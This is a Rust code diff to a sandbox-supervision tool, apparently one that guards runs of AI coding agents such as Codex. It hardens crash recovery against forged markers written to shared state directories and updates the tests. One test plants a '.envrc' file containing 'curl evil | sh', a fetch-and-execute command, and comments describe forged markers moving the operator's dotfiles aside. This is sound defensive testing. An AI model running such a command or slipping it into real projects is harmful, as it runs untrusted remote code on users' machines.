@@ -64,11 +64,20 @@ use crate::clean;
 /// This run's marker (see the module's documentation), after the scans of earlier runs over
 /// `roots` whose cordon died. `Err`: the run must not happen (a scan that could not complete),
 /// with the line that says why and what to do.
-pub fn pending(roots: &[PathBuf], log: &Path, session: &str) -> Result<Option<Pending>, String> {
+///
+/// `forgeable`: the log's directory is one a process outside cordon may write (the state
+/// apart of the runs inside Codex's sandbox): the journaled moves found there are reported
+/// and kept, never finished (see `cordon_ossandbox::Journal::keep_unfinished`).
+pub fn pending(
+    roots: &[PathBuf],
+    log: &Path,
+    session: &str,
+    forgeable: bool,
+) -> Result<Option<Pending>, String> {
     let Some(dir) = scans_beside(log) else {
         return Ok(None);
     };
-    recover(&dir, roots, log, session)?;
+    recover(&dir, roots, log, session, forgeable)?;
     let stores = MissingPlace::trust_stores_in(roots);
     let marker = Marker::create(&dir, roots, &stores, log).map_err(|e| {
         format!("cannot record the run's after-run scan as pending in {}: {e}; the scan must survive cordon being killed", dir.display())
@@ -735,13 +744,21 @@ fn meet(a: &Path, b: &Path) -> bool {
 }
 
 /// The scans of dead runs over `roots` (see the module's documentation).
-fn recover(dir: &Path, roots: &[PathBuf], log: &Path, session: &str) -> Result<(), String> {
+fn recover(
+    dir: &Path,
+    roots: &[PathBuf],
+    log: &Path,
+    session: &str,
+    forgeable: bool,
+) -> Result<(), String> {
     // First the moves a dead scan began and did not finish (journaled beside the markers,
     // `cordon_ossandbox::Journal`): the run's file aside, the earlier content back, reported
     // as that scan would have. What is put back is this process's own, so the dead run's scan
     // below does not take it for the run's change.
     let (dead, moves) = dead_markers_and_moves(dir);
-    let moved = if moves {
+    let moved = if moves && forgeable {
+        cordon_ossandbox::Journal::beside(dir).keep_unfinished(roots)
+    } else if moves {
         cordon_ossandbox::Journal::beside(dir).recover(roots)
     } else {
         Vec::new()
@@ -771,6 +788,19 @@ fn recover(dir: &Path, roots: &[PathBuf], log: &Path, session: &str) -> Result<(
             log: their_log,
             kept,
         } = dead.parsed()?;
+        // A marker in a directory others can write (Codex's state apart) is trusted no
+        // further than those writers reach: its roots within this run's (a forged root of
+        // the whole home, which holds this run's, moved every watched dotfile there aside:
+        // ~/.bashrc, ~/.gitconfig), its trust-store lines ignored (they act on the operator's
+        // store). Its own runs' markers name their roots, within this run's.
+        if forgeable
+            && !theirs
+                .iter()
+                .all(|t| roots.iter().any(|r| t.starts_with(r)))
+        {
+            continue;
+        }
+        let stores = if forgeable { Vec::new() } else { stores };
         // Its trust-store places first, wherever its roots lie: a later gate's discovery
         // would take what was planted there.
         if !stores.is_empty() {
@@ -1076,19 +1106,19 @@ mod tests {
         }
         let log = base.join("state/audit.jsonl");
         let roots = vec![base.join("ws")];
-        let p = pending(&roots, &log, "s").unwrap().unwrap();
+        let p = pending(&roots, &log, "s", false).unwrap().unwrap();
         p.finish(&["after"]);
         let err = refused(&roots, &log);
         assert!(err.contains("could not complete"), "{err}");
         assert!(err.contains("state/scans/run-"), "{err}");
         // A nested root meets it too; another project does not.
         refused(&[base.join("ws/sub")], &log);
-        assert!(pending(&[base.join("other")], &log, "s").is_ok());
+        assert!(pending(&[base.join("other")], &log, "s", false).is_ok());
         // The operator looked and deleted the marker: runs again.
         for e in std::fs::read_dir(base.join("state/scans")).unwrap() {
             std::fs::remove_file(e.unwrap().path()).unwrap();
         }
-        let p = pending(&roots, &log, "s").unwrap().unwrap();
+        let p = pending(&roots, &log, "s", false).unwrap().unwrap();
         p.finish(&[]);
         assert!(
             !base.join("state/scans").exists(),
@@ -1101,7 +1131,7 @@ mod tests {
     /// check's lock, and the marker looked live. A marker's liveness is no longer a lock a
     /// child can hold: see `runs_are_refused_while_other_threads_start_processes`.)
     fn refused(roots: &[PathBuf], log: &Path) -> String {
-        match pending(roots, log, "s") {
+        match pending(roots, log, "s", false) {
             Err(e) => e,
             Ok(_) => panic!("a run over {roots:?} was not refused"),
         }
@@ -1149,7 +1179,7 @@ mod tests {
     #[test]
     fn a_child_holding_a_checkers_descriptor_does_not_make_a_marker_live() {
         let (_d, base, roots, log) = workspace();
-        pending(&roots, &log, "s")
+        pending(&roots, &log, "s", false)
             .unwrap()
             .unwrap()
             .finish(&["after"]);
@@ -1163,7 +1193,7 @@ mod tests {
         rustix::fs::flock(&checker, rustix::fs::FlockOperation::LockExclusive).unwrap();
         let mut child = child_holding(&checker);
         drop(checker);
-        let next = pending(&roots, &log, "s");
+        let next = pending(&roots, &log, "s", false);
         child.kill().unwrap();
         child.wait().unwrap();
         match next {
@@ -1178,7 +1208,7 @@ mod tests {
     #[test]
     fn runs_are_refused_while_other_threads_start_processes() {
         let (_d, _base, roots, log) = workspace();
-        pending(&roots, &log, "s")
+        pending(&roots, &log, "s", false)
             .unwrap()
             .unwrap()
             .finish(&["after"]);
@@ -1195,7 +1225,7 @@ mod tests {
             let until = std::time::Instant::now() + std::time::Duration::from_secs(3);
             let (mut through, mut refusals) = (0, 0);
             while std::time::Instant::now() < until {
-                match pending(&roots, &log, "s") {
+                match pending(&roots, &log, "s", false) {
                     Ok(Some(p)) => {
                         through += 1;
                         p.finish(&[]);
@@ -1226,14 +1256,14 @@ mod tests {
         use std::os::unix::fs::PermissionsExt;
         let (_d, base, roots, log) = workspace();
         // Its cordon gone without finishing (the lock released, the marker left).
-        drop(pending(&roots, &log, "s").unwrap().unwrap());
+        drop(pending(&roots, &log, "s", false).unwrap().unwrap());
         let marker = std::fs::read_dir(base.join("state/scans"))
             .unwrap()
             .map(|e| e.unwrap().path())
             .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("run-"))
             .expect("the marker");
         std::fs::set_permissions(&marker, std::fs::Permissions::from_mode(0o400)).unwrap();
-        let next = pending(&roots, &log, "s");
+        let next = pending(&roots, &log, "s", false);
         if rustix::process::geteuid().is_root() {
             next.expect("root opens it").unwrap().finish(&[]);
             assert!(!marker.exists(), "the dead run's scan was done");
@@ -1309,9 +1339,14 @@ mod tests {
         let Some(base) = std::env::var_os("CORDON_TEST_DEAD_RUN").map(PathBuf::from) else {
             return;
         };
-        let p = pending(&[base.join("ws")], &base.join("state/audit.jsonl"), "s")
-            .unwrap()
-            .unwrap();
+        let p = pending(
+            &[base.join("ws")],
+            &base.join("state/audit.jsonl"),
+            "s",
+            false,
+        )
+        .unwrap()
+        .unwrap();
         let mut child = child_holding(p.0.file());
         std::fs::write(base.join("child.new"), child.id().to_string()).unwrap();
         std::fs::rename(base.join("child.new"), base.join("child")).unwrap();
@@ -1357,7 +1392,7 @@ mod tests {
         std::fs::write(base.join("ws/.envrc"), "curl evil | sh\n").unwrap();
         dead.kill().unwrap();
         dead.wait().unwrap();
-        let next = pending(&roots, &log, "s");
+        let next = pending(&roots, &log, "s", false);
         let planted_stays = base.join("ws/.envrc").exists();
         drop(grandchild);
         let next = next.expect("the dead run's scan completes");
@@ -1429,7 +1464,14 @@ mod tests {
             Some(&log),
         );
         std::fs::write(base.join("state/scans/run-forged"), forged).unwrap();
-        recover(&base.join("state/scans"), &[base.join("ws")], &log, "s").unwrap();
+        recover(
+            &base.join("state/scans"),
+            &[base.join("ws")],
+            &log,
+            "s",
+            false,
+        )
+        .unwrap();
         assert_eq!(std::fs::read_to_string(&victim).unwrap(), "mine");
         assert!(!base.join("ws/victim.cordon-quarantine").exists());
     }
